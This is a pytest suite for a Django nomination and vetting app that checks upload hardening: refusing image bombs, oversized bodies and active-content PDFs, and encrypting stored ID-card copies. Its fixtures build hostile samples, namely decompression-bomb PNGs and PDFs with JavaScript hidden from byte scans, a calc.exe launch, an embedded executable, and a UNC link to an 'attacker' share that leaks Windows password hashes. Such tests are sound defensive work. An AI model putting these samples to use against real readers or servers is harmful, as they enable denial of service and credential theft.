"""Uploads hardened (issue 10, items 9, 11, 12, 13 and 19): an image bomb is a form error, a body over the limit is
refused before it is read, a PDF with active content is refused, the ID-card copy is encrypted at rest, kept 0600 and
deleted when replaced, and only the office (and the village while its form is open) downloads it."""

import io
import struct
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from candidates.models import Nomination
from reserve.uploads import clean_document
from tests.candidates import test_views as cv
from tests.candidates.test_views import form_data, stored_files
from tests.factories import NominationFactory, png_upload
from tests.helpers import close_response, page
from tests.vetting import joint_vetting_support as jv

nom, vetting_nom, req_x = jv.nom, jv.vetting_nom, jv.req_x
nom_a = cv.nom_a  # village A's draft with an ID-card copy, made through the service

pytestmark = pytest.mark.django_db


# --------------------------------------------------------------------------- item 9: a decompression bomb

def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def bomb_png(width=20000, height=20000) -> bytes:
    """A PNG of a few dozen bytes whose header claims width × height pixels (400 million by default)."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", zlib.compress(b"\x00" * 64))
            + _chunk(b"IEND", b""))


def bomb_upload(name="bomb.png"):
    return SimpleUploadedFile(name, bomb_png(), content_type="image/png")


def test_clean_document_refuses_an_image_bomb_with_a_clear_message():
    from django.core.exceptions import ValidationError

    with pytest.raises(ValidationError) as exc:
        clean_document(bomb_upload())
    assert "图片尺寸过大" in exc.value.messages[0]


@pytest.mark.parametrize("width, height", [(1, 49_000_000), (7000, 7000), (4097, 4096), (20_001, 1000)])
def test_an_image_that_would_cost_too_much_to_decode_is_refused_before_it_is_decoded(width, height):
    """Found by the attack: a 69-byte PNG of 1 × 49,000,000 pixels (under the 50-million cap) took 1 GB and 8 s. A PNG
    may have at most 4096 × 4096 pixels, and no image is a strip more than 20 times as long as it is wide."""
    from django.core.exceptions import ValidationError

    with pytest.raises(ValidationError, match="图片尺寸过大"):
        clean_document(SimpleUploadedFile("strip.png", bomb_png(width, height), content_type="image/png"))


def test_a_large_jpeg_is_decoded_at_a_reduced_scale():
    """A JPEG is decoded by its draft mode at 1/2, 1/4 … of its size, down to no less than 2000 pixels a side."""
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (7000, 7000), (200, 100, 50)).save(buffer, "JPEG", quality=80)
    clean = clean_document(SimpleUploadedFile("big.jpg", buffer.getvalue(), content_type="image/jpeg"))
    with Image.open(clean) as img:
        assert img.size == (3500, 3500)


def test_the_nomination_form_answers_an_image_bomb_with_a_form_error(client, village_a_user, village_a, round_,
                                                                    tmp_path):
    client.force_login(village_a_user)
    response = client.post(reverse("candidates:nomination_new"),
                           form_data(village_a, round_, id_card_copy=bomb_upload()))
    assert response.status_code == 200
    assert "图片尺寸过大" in page(response)
    assert not Nomination.objects.exists() and stored_files(tmp_path) == []


def _finding_data(req, **files):
    data = {"version": str(jv.reload(req).version), "conclusion": ""}
    for item in jv.items_of(req):
        data[f"item{item.pk}-outcome"] = "clear"
    data.update(files)
    return data


def test_a_vetting_attachment_bomb_is_a_form_error(client, dept_x_user, req_x):
    item = jv.items_of(req_x)[0]
    client.force_login(dept_x_user)
    response = client.post(reverse("vetting:request_detail", args=[req_x.pk]),
                           _finding_data(req_x, **{f"item{item.pk}-attachment": bomb_upload()}))
    assert response.status_code == 200
    assert "图片尺寸过大" in page(response)
    assert not jv.reload(req_x).findings.exists()


def test_a_paper_answer_bomb_is_a_form_error(client, office, req_x):
    client.force_login(office)
    data = {**_finding_data(req_x), "paper_signer": "李纪检", "paper_date": f"{jv.today():%Y-%m-%d}",
            "paper_answer": bomb_upload()}
    response = client.post(reverse("vetting:request_proxy_answer", args=[req_x.pk]), data)
    assert response.status_code == 200
    assert "图片尺寸过大" in page(response)
    assert not jv.reload(req_x).findings.exists()


# --------------------------------------------------------------------------- item 19: who opens the ID-card copy

def _get(client, user, name, pk):
    client.force_login(user)
    response = client.get(reverse(name, args=[pk]))
    body = b"".join(response.streaming_content) if response.streaming else response.content
    close_response(response)
    return response.status_code, body


def test_the_committee_cannot_download_the_id_card_copy_nor_sees_its_link(client, committee, office, nom_a):
    from candidates import services

    services.perform(actor=nom_a.created_by, nomination_id=nom_a.pk, action="submit")
    url = reverse("candidates:nomination_id_card", args=[nom_a.pk])
    status, _body = _get(client, committee, "candidates:nomination_id_card", nom_a.pk)
    assert status == 403
    status, body = _get(client, committee, "candidates:nomination_detail", nom_a.pk)
    assert status == 200 and url not in body.decode() and "已上传" in body.decode()
    status, body = _get(client, office, "candidates:nomination_detail", nom_a.pk)
    assert status == 200 and url in body.decode()
    status, body = _get(client, office, "candidates:nomination_id_card", nom_a.pk)
    assert status == 200 and body.startswith(b"\x89PNG")


def test_the_village_opens_its_copy_while_the_form_is_open_only(client, village_a_user, nom_a):
    from candidates import services

    url = reverse("candidates:nomination_id_card", args=[nom_a.pk])
    status, body = _get(client, village_a_user, "candidates:nomination_id_card", nom_a.pk)
    assert status == 200 and body.startswith(b"\x89PNG")
    assert url in _get(client, village_a_user, "candidates:nomination_detail", nom_a.pk)[1].decode()
    services.perform(actor=village_a_user, nomination_id=nom_a.pk, action="submit")
    assert _get(client, village_a_user, "candidates:nomination_id_card", nom_a.pk)[0] == 403
    assert url not in _get(client, village_a_user, "candidates:nomination_detail", nom_a.pk)[1].decode()


def test_each_download_of_the_id_card_copy_is_audited(client, office, nom_a):
    from candidates import services
    from reserve.models import AuditEntry

    services.perform(actor=nom_a.created_by, nomination_id=nom_a.pk, action="submit")
    _get(client, office, "candidates:nomination_id_card", nom_a.pk)
    _get(client, office, "candidates:nomination_id_card", nom_a.pk)
    assert AuditEntry.objects.filter(action="download", detail__file="id_card", user=office).count() == 2


# --------------------------------------------------------------------------- item 11: a body over the limit

HUGE = str(300 * 1024 * 1024)  # what the attack declared: 300 MiB


class UnreadableBody:
    """A request body that fails the test if anything reads it."""

    def read(self, *args):
        raise AssertionError("the body was read")

    readline = read


def _post_unread(client, url, data=None):
    """POST a small form declaring a 300 MiB body that cannot be read: only a refusal made on the Content-Length
    alone answers without an error."""
    return client.post(url, data or {"x": "1"}, CONTENT_LENGTH=HUGE, **{"wsgi.input": UnreadableBody()})


def _upload_urls(nom, req):
    return {
        "nomination_new": reverse("candidates:nomination_new"),
        "nomination_edit": reverse("candidates:nomination_edit", args=[nom.pk]),
        "request_detail": reverse("vetting:request_detail", args=[req.pk]),
        "request_proxy_answer": reverse("vetting:request_proxy_answer", args=[req.pk]),
    }


@pytest.mark.parametrize("view, who", [
    ("nomination_new", "village"), ("nomination_edit", "village"),
    ("request_detail", "department"), ("request_proxy_answer", "office"),
])
def test_every_upload_view_refuses_a_huge_body_before_reading_it(client, village_a_user, dept_x_user, office,
                                                                  village_a, round_, req_x, view, who, tmp_path):
    draft = NominationFactory(round=round_, village=village_a, created_by=village_a_user)
    client.force_login({"village": village_a_user, "department": dept_x_user, "office": office}[who])
    response = _post_unread(client, _upload_urls(draft, req_x)[view])
    assert response.status_code == 413
    html = response.content.decode()
    assert "文件过大" in html and "不能超过" in html and "本次提交未保存" in html
    assert stored_files(tmp_path) == []


def test_a_view_without_files_refuses_a_body_over_the_fields_limit_before_reading_it(client, village_a_user,
                                                                                     settings):
    client.force_login(village_a_user)
    response = _post_unread(client, reverse("password_change"))
    assert response.status_code == 413
    assert "提交的内容过大" in response.content.decode()


def test_a_body_within_the_limit_is_read_as_usual(client, village_a_user, village_a, round_):
    client.force_login(village_a_user)
    response = client.post(reverse("candidates:nomination_new"), form_data(village_a, round_))
    assert response.status_code == 302
    assert Nomination.objects.count() == 1


def test_a_vetting_attachment_over_the_limit_is_named_on_its_item(client, dept_x_user, req_x, settings):
    settings.UPLOAD_MAX_BYTES = 2000
    item = jv.items_of(req_x)[0]
    big = SimpleUploadedFile("scan.jpg", b"\xff\xd8\xff\xe0" + b"0" * 5000, content_type="image/jpeg")
    client.force_login(dept_x_user)
    response = client.post(reverse("vetting:request_detail", args=[req_x.pk]),
                           _finding_data(req_x, **{f"item{item.pk}-attachment": big}))
    assert response.status_code == 200
    assert "文件过大" in page(response)
    assert not jv.reload(req_x).findings.exists()


# --------------------------------------------------------------------------- item 12: PDFs with active content

def build_pdf(objects: dict, *, root: int = 1, packed: dict | None = None) -> bytes:
    """A PDF of the given objects (number -> body bytes), with a cross-reference stream; the objects of `packed`
    are put in a compressed object stream, where a byte scan of the file cannot see them."""
    packed = packed or {}
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    entries = {0: (0, 0, 65535)}
    for num, body in sorted(objects.items()):
        entries[num] = (1, len(out), 0)
        out += b"%d 0 obj\n" % num + body + b"\nendobj\n"
    last = max([*objects, *packed])
    if packed:
        stm = last + 1
        last = stm
        offsets, bodies, pos = [], b"", 0
        for i, (num, body) in enumerate(sorted(packed.items())):
            offsets.append(b"%d %d" % (num, pos))
            bodies += body + b"\n"
            pos = len(bodies)
            entries[num] = (2, stm, i)
        head = b" ".join(offsets) + b"\n"
        data = zlib.compress(head + bodies)
        entries[stm] = (1, len(out), 0)
        out += (b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
                % (stm, len(packed), len(head), len(data)) + data + b"\nendstream\nendobj\n")
    xref = last + 1
    entries[xref] = (1, len(out), 0)
    rows = b"".join(bytes([t]) + a.to_bytes(4, "big") + b.to_bytes(2, "big")
                    for t, a, b in (entries.get(n, (0, 0, 0)) for n in range(xref + 1)))
    start = len(out)
    out += (b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root %d 0 R /Length %d >>\nstream\n"
            % (xref, xref + 1, root, len(rows)) + rows + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % start)
    return bytes(out)


CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] >>"


def plain_pdf() -> bytes:
    return build_pdf({1: CATALOG, 2: PAGES, 3: PAGE})


def pdf_upload(data, name="scan.pdf"):
    return SimpleUploadedFile(name, data, content_type="application/pdf")


def with_catalog(extra: bytes, *, packed=None, more=None) -> bytes:
    """The plain PDF whose catalog carries `extra`; objects 4… in `more` (plain) or `packed` (an object stream)."""
    catalog = CATALOG[:-2] + b" " + extra + b" >>"
    return build_pdf({1: catalog, 2: PAGES, 3: PAGE, **(more or {})}, packed=packed)


ACTIVE = {
    "open_action_js": with_catalog(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
    "names_javascript": with_catalog(b"/Names << /JavaScript 4 0 R >>",
                                     more={4: b"<< /Names [(x) << /S /JavaScript /JS (app.alert(1)) >>] >>"}),
    # #xx escapes in the names: no "JavaScript" or "JS" in the file's bytes.
    "hex_escaped_names": with_catalog(b"/OpenAction 4 0 R", more={4: b"<< /S /Java#53cript /J#53 (app.alert(1)) >>"}),
    # The action is in a compressed object stream: nothing of it in the file's bytes.
    "in_object_stream": with_catalog(b"/OpenAction 4 0 R", packed={4: b"<< /S /JavaScript /JS (app.alert(1)) >>"}),
    "page_additional_action": build_pdf({1: CATALOG, 2: PAGES, 3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 2 1] "
                                                                b"/AA << /O 4 0 R >> >>"},
                                        packed={4: b"<< /S /JavaScript /JS (1) >>"}),
    "launch": with_catalog(b"/OpenAction << /S /Launch /F (calc.exe) >>"),
    "embedded_file": with_catalog(b"/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>",
                                  more={4: b"<< /Type /Filespec /F (a.exe) >>"}),
    "rich_media": build_pdf({1: CATALOG, 2: PAGES, 3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 2 1] "
                                                    b"/Annots [4 0 R] >>",
                             4: b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 1 1] >>"}),
    "xfa": with_catalog(b"/AcroForm << /Fields [] /XFA 4 0 R >>", more={4: b"<< /Length 0 >>\nstream\n\nendstream"}),
    # Found by the attack: a link to a file on another machine (a UNC path: the reader's Windows password hash
    # goes with the request).
    "go_to_remote": build_pdf({1: CATALOG, 2: PAGES, 3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 2 1] "
                                                      b"/Annots [4 0 R] >>",
                               4: b"<< /Type /Annot /Subtype /Link /Rect [0 0 1 1] "
                                  b"/A << /S /GoToR /F (\\\\attacker\\share\\x.pdf) /D [0 /Fit] >> >>"}),
}


def test_a_crafted_pdf_without_active_content_is_accepted_and_written_anew():
    from pypdf import PdfReader

    data = plain_pdf() + b"<script>appended</script>"
    cleaned = clean_document(pdf_upload(data[: data.rfind(b"%%EOF") + 6]))
    stored = cleaned.read()
    assert stored.startswith(b"%PDF") and b"appended" not in stored
    assert len(PdfReader(io.BytesIO(stored)).pages) == 1


@pytest.mark.parametrize("name", ACTIVE)
def test_a_pdf_with_active_content_is_refused(name):
    from django.core.exceptions import ValidationError

    if name in ("hex_escaped_names", "in_object_stream"):
        assert b"JavaScript" not in ACTIVE[name]  # a byte scan would not find it
    with pytest.raises(ValidationError) as exc:
        clean_document(pdf_upload(ACTIVE[name]))
    assert "活动内容" in exc.value.messages[0]


def test_the_nomination_form_refuses_a_pdf_with_javascript(client, village_a_user, village_a, round_, tmp_path):
    client.force_login(village_a_user)
    response = client.post(reverse("candidates:nomination_new"),
                           form_data(village_a, round_, id_card_copy=pdf_upload(ACTIVE["in_object_stream"])))
    assert response.status_code == 200
    assert "活动内容" in page(response)
    assert not Nomination.objects.exists() and stored_files(tmp_path) == []


def test_a_vetting_attachment_with_javascript_is_refused(client, dept_x_user, req_x):
    item = jv.items_of(req_x)[0]
    client.force_login(dept_x_user)
    response = client.post(reverse("vetting:request_detail", args=[req_x.pk]), _finding_data(
        req_x, **{f"item{item.pk}-attachment": pdf_upload(ACTIVE["hex_escaped_names"])}))
    assert response.status_code == 200
    assert "活动内容" in page(response)
    assert not jv.reload(req_x).findings.exists()


@pytest.mark.parametrize("data", [b"%PDF-1.4\n%%EOF", plain_pdf()[:-40] + b"\n%%EOF\n"], ids=["empty", "truncated"])
def test_a_pdf_the_parser_cannot_read_is_refused(data):
    from django.core.exceptions import ValidationError

    with pytest.raises(ValidationError):
        clean_document(pdf_upload(data))


# --------------------------------------------------------------------------- item 13: the ID-card copy at rest

def _on_disk(media_root, field_file):
    return media_root / field_file.name


def test_the_stored_id_card_copy_is_ciphertext_and_the_download_is_the_image(client, village_a_user, office,
                                                                           village_a, round_, media_root):
    from PIL import Image

    from candidates import services

    client.force_login(village_a_user)
    assert client.post(reverse("candidates:nomination_new"), form_data(village_a, round_)).status_code == 302
    n = Nomination.objects.get()
    stored = _on_disk(media_root, n.id_card_copy).read_bytes()
    assert not stored.startswith(b"\x89PNG") and b"IHDR" not in stored and stored.startswith(b"gAAAAA")
    services.perform(actor=village_a_user, nomination_id=n.pk, action="submit")
    status, body = _get(client, office, "candidates:nomination_id_card", n.pk)
    assert status == 200 and body.startswith(b"\x89PNG")
    assert Image.open(io.BytesIO(body)).size == (40, 30)


def test_stored_files_and_their_directories_are_the_apps_alone(client, village_a_user, village_a, round_,
                                                               media_root):
    client.force_login(village_a_user)
    client.post(reverse("candidates:nomination_new"), form_data(village_a, round_))
    path = _on_disk(media_root, Nomination.objects.get().id_card_copy)
    assert path.stat().st_mode & 0o777 == 0o600
    for directory in (path.parent, path.parent.parent):  # id_cards/<year>/ and id_cards/
        assert directory.stat().st_mode & 0o777 == 0o700, directory


def test_a_replaced_id_card_copy_is_deleted_once_the_change_is_committed(client, village_a_user, nom_a, media_root,
                                                                        django_capture_on_commit_callbacks):
    old = _on_disk(media_root, nom_a.id_card_copy)
    assert old.exists()
    client.force_login(village_a_user)
    data = form_data(nom_a.village, id_number=nom_a.person.id_number, name="甲村人",
                     id_card_copy=png_upload("new.png"))
    with django_capture_on_commit_callbacks(execute=True):
        assert client.post(reverse("candidates:nomination_edit", args=[nom_a.pk]), data).status_code == 302
    nom_a.refresh_from_db()
    new = _on_disk(media_root, nom_a.id_card_copy)
    assert new != old and new.exists() and not old.exists()


def test_a_replacement_that_is_rolled_back_keeps_the_old_file(nom_a, media_root):
    from django.db import transaction

    from reserve.uploads import replace_document

    old = _on_disk(media_root, nom_a.id_card_copy)
    with transaction.atomic():
        replace_document(nom_a, "id_card_copy", png_upload("new.png"))
        nom_a.save()
        transaction.set_rollback(True)
    assert old.exists()


def test_an_id_card_copy_kept_while_its_form_is_corrected_is_encrypted_too(client, village_a_user, village_a,
                                                                          round_, media_root):
    client.force_login(village_a_user)
    response = client.post(reverse("candidates:nomination_new"), form_data(village_a, round_, phone="12"))
    assert response.status_code == 200 and not Nomination.objects.exists()
    (kept,) = [p for p in (media_root / "pending").rglob("*") if p.is_file()]
    assert kept.read_bytes().startswith(b"gAAAAA") and kept.stat().st_mode & 0o777 == 0o600
    token = response.context["pending"]["token"]
    data = form_data(village_a, round_)
    del data["id_card_copy"]
    response = client.post(reverse("candidates:nomination_new"), {**data, "id_card_pending": token})
    assert response.status_code == 302
    n = Nomination.objects.get()
    from reserve.uploads import read_document

    assert read_document(n.id_card_copy).startswith(b"\x89PNG")


def test_key_rotation_re_encrypts_the_id_card_copies_and_encrypts_older_plain_ones(nom_a, village_a, round_,
                                                                                 village_a_user, settings,
                                                                                 media_root):
    from cryptography.fernet import Fernet
    from django.core.management import call_command

    from reserve import crypto
    from reserve.uploads import read_document

    plain = NominationFactory(round=round_, village=village_a, created_by=village_a_user, id_card_copy=png_upload())
    plain_path = _on_disk(media_root, plain.id_card_copy)
    assert plain_path.read_bytes().startswith(b"\x89PNG")  # stored before the copies were encrypted
    old_key = crypto.encryption_keys()[0]
    new_key = Fernet.generate_key().decode()
    settings.FIELD_ENCRYPTION_KEYS = [new_key, old_key]
    call_command("rotate_encryption_keys", stdout=io.StringIO())
    settings.FIELD_ENCRYPTION_KEYS = [new_key]  # the old key dropped: every copy still opens
    for n in (nom_a, plain):
        n.refresh_from_db()
        path = _on_disk(media_root, n.id_card_copy)
        assert path.read_bytes().startswith(b"gAAAAA") and path.stat().st_mode & 0o777 == 0o600
        assert read_document(n.id_card_copy).startswith(b"\x89PNG")


def test_the_nginx_sample_caps_the_body_at_the_largest_page_limit_and_sets_the_proxy_headers(settings):
    """docs/deploy/nginx.conf: client_max_body_size lets through the largest body a page takes (the paper answer)
    and no more than a megabyte beyond it; the client's address and the scheme come from the connection."""
    import re
    from pathlib import Path

    from reserve.uploads import body_limit
    from vetting.views import ANSWER_FILES

    settings.UPLOAD_MAX_BYTES = 5 * 1024 * 1024  # the default the sample is written for
    conf = (Path(__file__).resolve().parents[2] / "docs" / "deploy" / "nginx.conf").read_text()
    (size,) = re.findall(r"^\s*client_max_body_size\s+(\d+)m;", conf, re.M)
    largest = body_limit(ANSWER_FILES + 1)
    assert largest <= int(size) * 1024 * 1024 < largest + 1024 * 1024
    assert re.search(r"proxy_set_header X-Real-IP \$remote_addr;", conf)
    assert re.search(r"proxy_set_header X-Forwarded-Proto \$scheme;", conf)
    assert re.search(r"proxy_pass http://", conf)


def test_a_replaced_vetting_attachment_is_deleted_once_committed(req_x, dept_x_user, office, media_root,
                                                               django_capture_on_commit_callbacks):
    from django.core.files.base import ContentFile

    from vetting import services

    def answer_with(name):
        answers = jv.answers_for(req_x, flag=(1,))
        item = next(i for i in jv.items_of(req_x) if i.number == 1)
        outcome, note, _none = answers[item.pk]
        answers[item.pk] = (outcome, note, ContentFile(png_upload().read(), name=name))
        with django_capture_on_commit_callbacks(execute=True):
            services.answer_request(actor=dept_x_user, request_id=req_x.pk, version=jv.reload(req_x).version,
                                    answers=answers)
        return media_root / jv.reload(req_x).findings.get(item=item).attachment.name

    first = answer_with("first.png")
    jv.decide(office, req_x, "confirmed")
    services.reopen_request(actor=office, request_id=req_x.pk, reason="纪委来函更正")
    second = answer_with("second.png")
    assert second.exists() and not first.exists()
    assert second.stat().st_mode & 0o777 == 0o600


def test_a_restored_upload_is_written_as_the_app_stores_one(tmp_path):
    from reserve.backup import write_media_file

    base = tmp_path / "media"
    base.mkdir(mode=0o700)
    target = base / "id_cards" / "2026" / "x.png"
    write_media_file(base, target, io.BytesIO(b"gAAAAAx"))
    assert target.read_bytes() == b"gAAAAAx" and target.stat().st_mode & 0o777 == 0o600
    assert {d.stat().st_mode & 0o777 for d in (target.parent, target.parent.parent)} == {0o700}


def test_a_form_posted_again_and_again_without_its_token_keeps_only_a_few_uploads(client, village_a_user, village_a,
                                                                                   round_, media_root):
    """Found by the attack: 20 refused posts, each with a new copy and no token, left 20 files for ever."""
    from reserve.uploads import PENDING_PER_SESSION

    client.force_login(village_a_user)
    for _i in range(PENDING_PER_SESSION + 3):
        response = client.post(reverse("candidates:nomination_new"), form_data(village_a, round_, phone="12"))
        assert response.status_code == 200
    kept = [p for p in (media_root / "pending").rglob("*") if p.is_file()]
    assert len(kept) == PENDING_PER_SESSION
    # the newest is the one the form offers back
    token = response.context["pending"]["token"]
    data = form_data(village_a, round_)
    del data["id_card_copy"]
    assert client.post(reverse("candidates:nomination_new"), {**data, "id_card_pending": token}).status_code == 302


def test_kept_uploads_older_than_a_day_are_purged(client, village_a_user, village_a, round_, media_root):
    import datetime
    import os

    from django.core.management import call_command

    from reserve.uploads import PENDING_MAX_AGE

    client.force_login(village_a_user)
    client.post(reverse("candidates:nomination_new"), form_data(village_a, round_, phone="12"))
    (kept,) = [p for p in (media_root / "pending").rglob("*") if p.is_file()]
    call_command("purge_pending_uploads")
    assert kept.exists()  # still offered back
    old = (datetime.datetime.now() - datetime.timedelta(seconds=PENDING_MAX_AGE + 60)).timestamp()
    os.utime(kept, (old, old))
    call_command("purge_pending_uploads")
    assert not kept.exists()
